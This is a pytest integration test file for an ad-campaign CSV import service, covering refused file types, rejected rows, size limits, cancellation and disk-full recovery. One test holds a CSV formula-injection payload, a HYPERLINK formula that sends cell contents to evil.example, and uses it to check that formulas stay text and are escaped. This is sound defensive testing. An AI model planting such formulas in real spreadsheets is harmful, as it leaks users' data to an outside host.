"""Files that are wrong: each gets words that say what, where and what to do, and nothing of it stays."""

import errno
import io
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.exc import OperationalError

from data import csv_safety
from domain.errors import AppError, ErrorCode
from domain.imports import Field, ImportOptions, ImportStatus
from services import facts, imports, uploads
from services.container import container
from services.job_runner import JobCancelledError
from tests.fixtures_app import sqlite_only
from tests.integration.imports.conftest import EURO, bring, csv_bytes, put

HEADER = ("Date", "Campaign", "Impressions", "Clicks", "Cost")
GOOD = ("2026-03-01", "Spring", "100", "5", "1.50")


def zipped(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, "Date,Campaign\n2026-03-01,Spring\n")
    return buffer.getvalue()


REFUSED = {
    "nothing in it": (b"\n\n  \n", ErrorCode.IMPORT_EMPTY, ["nothing but blank lines", "again"]),
    "header only": (csv_bytes(HEADER, []), ErrorCode.IMPORT_EMPTY, ["line 1", "no rows", "Export"]),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(200), ErrorCode.IMPORT_NOT_A_TABLE, ["an image", "CSV or XLSX"]),
    "a PDF": (b"%PDF-1.7\n" + bytes(50), ErrorCode.IMPORT_NOT_A_TABLE, ["a PDF", "CSV or XLSX"]),
    "HTML": (
        b"<!DOCTYPE html><html><body>Sign in</body></html>",
        ErrorCode.IMPORT_NOT_A_TABLE,
        ["web page", "sign-in", "CSV or XLSX"],
    ),
    "JSON": (b'{"error": "signed out"}', ErrorCode.IMPORT_NOT_A_TABLE, ["JSON", "CSV or XLSX"]),
    "a ZIP": (zipped("report.csv"), ErrorCode.IMPORT_NOT_A_TABLE, ["ZIP archive", "CSV or XLSX itself"]),
    "a broken ZIP": (b"PK\x03\x04" + b"broken" * 50, ErrorCode.FILE_DAMAGED, ["damaged"]),
    "binary": (bytes(range(256)) * 20, ErrorCode.IMPORT_NOT_A_TABLE, ["binary data"]),
    "one column": (b"Campaign\nSpring\nSale\n", ErrorCode.IMPORT_NOT_A_TABLE, ["one value", "comma"]),
    "no numbers": (
        csv_bytes(("Date", "Campaign", "Remark"), [("2026-03-01", "Spring", "fine")]),
        ErrorCode.IMPORT_NEEDS_INPUT,
        ["impressions, clicks or spend"],
    ),
    "only bad rows": (
        csv_bytes(HEADER, [("31/02/2026", "Spring", "1", "1", "1"), ("0206-01-01", "Spring", "1", "1", "1")]),
        ErrorCode.IMPORT_NO_VALID_ROW,
        ["line 2", "Date", "31/02/2026", "no such day", "YYYY-MM-DD"],
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused_file_says_why_and_leaves_nothing(core, tenant, looker, name):
    content, code, words = REFUSED[name]
    upload_id = put(tenant.analyst, content)
    with pytest.raises(AppError) as refused:
        imports.import_upload(tenant.analyst, upload_id, EURO)
    assert refused.value.code is code
    assert [word for word in words if word not in refused.value.message] == []
    assert set(looker.left(tenant.analyst)) == {"uploads", "files"}
    uploads.discard(tenant.analyst, upload_id)
    assert looker.left(tenant.analyst) == {}


@pytest.mark.parametrize("name", ["HTML", "a ZIP", "header only"])
def test_look_discards_a_file_that_nothing_can_mend(core, tenant, looker, name):
    upload_id = put(tenant.analyst, REFUSED[name][0])
    with pytest.raises(AppError):
        imports.look(tenant.analyst, upload_id)
    assert looker.left(tenant.analyst) == {}


def test_zero_bytes_are_refused_while_they_arrive(core, tenant, looker):
    with pytest.raises(AppError, match="0 bytes") as refused:
        put(tenant.analyst, b"")
    assert refused.value.code is ErrorCode.IMPORT_EMPTY
    assert looker.left(tenant.analyst) == {}


class Endless(io.RawIOBase):
    """A stream of 300 MB that is nowhere whole."""

    def __init__(self, size: int = 300 * 1024 * 1024) -> None:
        self.left, self.most = size, 0

    def read(self, size: int = -1) -> bytes:
        self.most = max(self.most, size)
        given = min(self.left, size)
        self.left -= given
        return b"x" * given


@sqlite_only
def test_three_hundred_megabytes_stop_at_two_hundred(core, tenant, looker):
    stream = Endless()
    with pytest.raises(AppError, match=r"200 MB.*shorter period") as refused:
        uploads.receive(tenant.analyst, stream, "large.csv")
    assert refused.value.code is ErrorCode.FILE_TOO_LARGE
    assert stream.left > 90 * 1024 * 1024
    assert stream.most <= 1024 * 1024
    assert looker.left(tenant.analyst) == {}


ROWS = {
    "too many cells": (("2026-03-02", "Sale", "1", "1", "1", "6"), "6 cells, the header has 5", "quotation marks"),
    "negative spend": (("2026-03-02", "Sale", "1", "1", "-1"), "negative amount", "leave the row out"),
    "the 31st of February": (("31/02/2026", "Sale", "1", "1", "1"), "no such day", "YYYY-MM-DD"),
    "the year 206": (("0206-03-02", "Sale", "1", "1", "1"), "year 0206 cannot be right", "YYYY-MM-DD"),
    "no campaign": (("2026-03-02", "", "1", "1", "1"), "campaign is missing", "Name the campaign"),
    "a word as number": (("2026-03-02", "Sale", "many", "1", "1"), "not a number", "plain number"),
}


@pytest.mark.parametrize("name", ROWS)
def test_bad_row_is_kept_out_and_named(core, tenant, looker, name):
    row, reason, fix = ROWS[name]
    result = bring(tenant.analyst, csv_bytes(HEADER, [GOOD, row]))
    assert (result.rows_total, result.rows_imported, result.rows_rejected) == (2, 1, 1)
    problem = result.errors[0]
    assert problem.line == 3
    assert reason in problem.reason
    assert fix in problem.fix
    assert imports.list_rejects(tenant.viewer, result.import_id)[0].reason == problem.reason
    assert looker.count("campaigns", tenant.analyst) == 1


def test_more_clicks_than_impressions_only_warn(core, tenant):
    result = bring(tenant.analyst, csv_bytes(HEADER, [GOOD, ("2026-03-02", "Sale", "1", "7", "1")]))
    assert (result.rows_imported, result.rows_rejected) == (2, 0)
    assert "Line 3: There are more clicks than impressions (1)." in result.warnings


def test_repeated_header_names_stay_apart_and_can_be_chosen(core, tenant):
    content = csv_bytes(("Date", "Campaign", "Cost", "Cost", "Clicks"), [("2026-03-01", "Spring", "1.5", "9.25", "3")])
    assert bring(tenant.analyst, content).totals[0].spend == 1.5
    second = EURO.model_copy(update={"mapping": {Field.SPEND: "Cost (2)"}})
    assert float(bring(tenant.analyst, content, second).totals[0].spend) == 9.25


def test_broken_characters_are_replaced_and_told(core, tenant, looker):
    names = "".join(f"2026-03-{day:02d},Größe {day},1,1,1\n" for day in range(1, 21)).encode()
    content = b"Date,Campaign,Impressions,Clicks,Cost\n" + names + b"2026-03-25,Gr\xff\xfee,1,1,1\n"
    result = bring(tenant.analyst, content)
    assert result.rows_imported == 21
    assert any("unreadable characters" in note for note in result.warnings)
    old = bring(tenant.analyst, "Date,Campaign,Impressions,Clicks,Cost\n2026-03-01,Größe,1,1,1\n".encode("cp1252"))
    assert any("Windows-1252" in note for note in old.warnings)


def test_formulas_stay_text_and_leave_escaped(core, tenant, looker):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Spring")'
    result = bring(
        tenant.analyst,
        csv_bytes(HEADER, [GOOD, ("=1+1", formula, "x", "1", "1"), ("2026-03-02", formula, "1", "1", "1")]),
    )
    names = {row.name for row in looker.rows("SELECT name FROM campaigns")}
    assert names == {"Spring", formula}
    file = io.StringIO(newline="")
    csv_safety.write_rejects(file, imports.list_rejects(tenant.viewer, result.import_id))
    text = file.getvalue()
    assert "'=1+1" in text
    assert not [line for line in text.splitlines() if ",=" in line or line.startswith("=")]


def test_file_of_another_platform_than_chosen_is_refused_with_the_likely_one(core, tenant, looker):
    header = ("Campaign name", "Ad set name", "Reporting starts", "Reporting ends", "Link clicks", "Amount spent (EUR)")
    content = csv_bytes(header, [("Spring", "All", "2026-03-01", "2026-03-01", "3", "1.5")])
    with pytest.raises(AppError, match="looks like Meta") as refused:
        bring(tenant.analyst, content, ImportOptions(source="tiktok"))
    assert refused.value.code is ErrorCode.IMPORT_WRONG_SOURCE
    assert refused.value.details["likely"] == "meta"
    assert set(looker.left(tenant.analyst)) <= {"uploads", "files"}


def many_rows(count: int) -> bytes:
    return csv_bytes(
        HEADER, ((f"2026-03-{n % 28 + 1:02d}", f"Campaign {n % 7}", "10", "1", "0.10") for n in range(count))
    )


def test_cancelled_midway_leaves_nothing_but_its_line_in_the_history(core, tenant, looker):
    bring(tenant.analyst, csv_bytes(HEADER, [GOOD]))
    before = looker.left(tenant.analyst)

    def stop(fraction: float, _message: str) -> None:
        if fraction > 0.5:
            raise JobCancelledError

    upload_id = put(tenant.analyst, many_rows(25_000))
    with pytest.raises(JobCancelledError):
        imports.import_upload(tenant.analyst, upload_id, EURO, progress=stop)
    uploads.discard(tenant.analyst, upload_id)
    assert looker.left(tenant.analyst) == before
    history = imports.list_imports(tenant.viewer).items
    assert [item.status for item in history] == [ImportStatus.CANCELLED, ImportStatus.DONE]


class FullDisk:
    """Takes the place of a function and runs out of space at the given call."""

    def __init__(self, inner: Any, at: int, error: Exception) -> None:
        self.inner, self.left, self.error = inner, at, error

    def __call__(self, *values: Any, **named: Any) -> Any:
        self.left -= 1
        if self.left == 0:
            raise self.error
        return self.inner(*values, **named)


def full_database() -> Exception:
    return OperationalError("INSERT", {}, sqlite3.OperationalError("database or disk is full"))


@pytest.mark.parametrize("place", ["insert_facts", "find_span"])
def test_disk_full_while_importing_changes_nothing(core, tenant, looker, monkeypatch, place):
    bring(tenant.analyst, csv_bytes(HEADER, [GOOD]))
    before = looker.left(tenant.analyst)
    upload_id = put(tenant.analyst, many_rows(25_000))
    with monkeypatch.context() as patch:
        patch.setattr(
            facts, place, FullDisk(getattr(facts, place), 2 if place == "insert_facts" else 1, full_database())
        )
        with pytest.raises(AppError, match="no space left") as refused:
            imports.import_upload(tenant.analyst, upload_id, EURO)
    assert refused.value.code is ErrorCode.STORAGE_FULL
    kept = looker.left(tenant.analyst)
    assert (kept.pop("uploads"), kept.pop("files")) == (1, 1)
    assert kept == before
    # With space again the same file goes in.
    assert imports.import_upload(tenant.analyst, upload_id, EURO).rows_imported == 25_000


def test_disk_full_while_uploading_leaves_no_file(core, tenant, looker, monkeypatch):
    class Stream(io.BytesIO):
        def read(self, _size: int | None = -1) -> bytes:
            if self.tell():
                raise OSError(errno.ENOSPC, "No space left on device")
            return super().read(100)

    with pytest.raises(AppError) as refused:
        uploads.receive(tenant.analyst, Stream(many_rows(50)), "r.csv")
    assert refused.value.code is ErrorCode.STORAGE_FULL
    assert looker.left(tenant.analyst) == {}


@sqlite_only
def test_database_that_may_not_grow_refuses_and_recovers(core, tenant, looker):
    """The real thing: SQLite itself says that the disk is full."""
    bring(tenant.analyst, csv_bytes(HEADER, [GOOD]))
    before = looker.left(tenant.analyst)
    engine = core.database.engine
    upload_id = put(tenant.analyst, many_rows(40_000))
    engine.dispose()
    from sqlalchemy import event

    def limit(connection: Any, _record: Any) -> None:
        pages = connection.execute("PRAGMA page_count").fetchone()[0]
        connection.execute(f"PRAGMA max_page_count = {pages + 300}")

    event.listen(engine, "connect", limit)
    try:
        with pytest.raises(AppError) as refused:
            imports.import_upload(tenant.analyst, upload_id, EURO)
    finally:
        event.remove(engine, "connect", limit)
        engine.dispose()
    assert refused.value.code is ErrorCode.STORAGE_FULL
    kept = looker.left(tenant.analyst)
    assert kept.pop("uploads") == kept.pop("files") == 1
    assert kept == before


def test_broken_connection_while_uploading_leaves_no_file(core, tenant, looker):
    class Broken(io.BytesIO):
        def read(self, _size: int | None = -1) -> bytes:
            raise ConnectionResetError

    with pytest.raises(ConnectionResetError):
        uploads.receive(tenant.analyst, Broken(b"x"), "r.csv")
    assert looker.left(tenant.analyst) == {}
    assert list(Path(container().settings.home / "uploads" / tenant.id.hex).iterdir()) == []
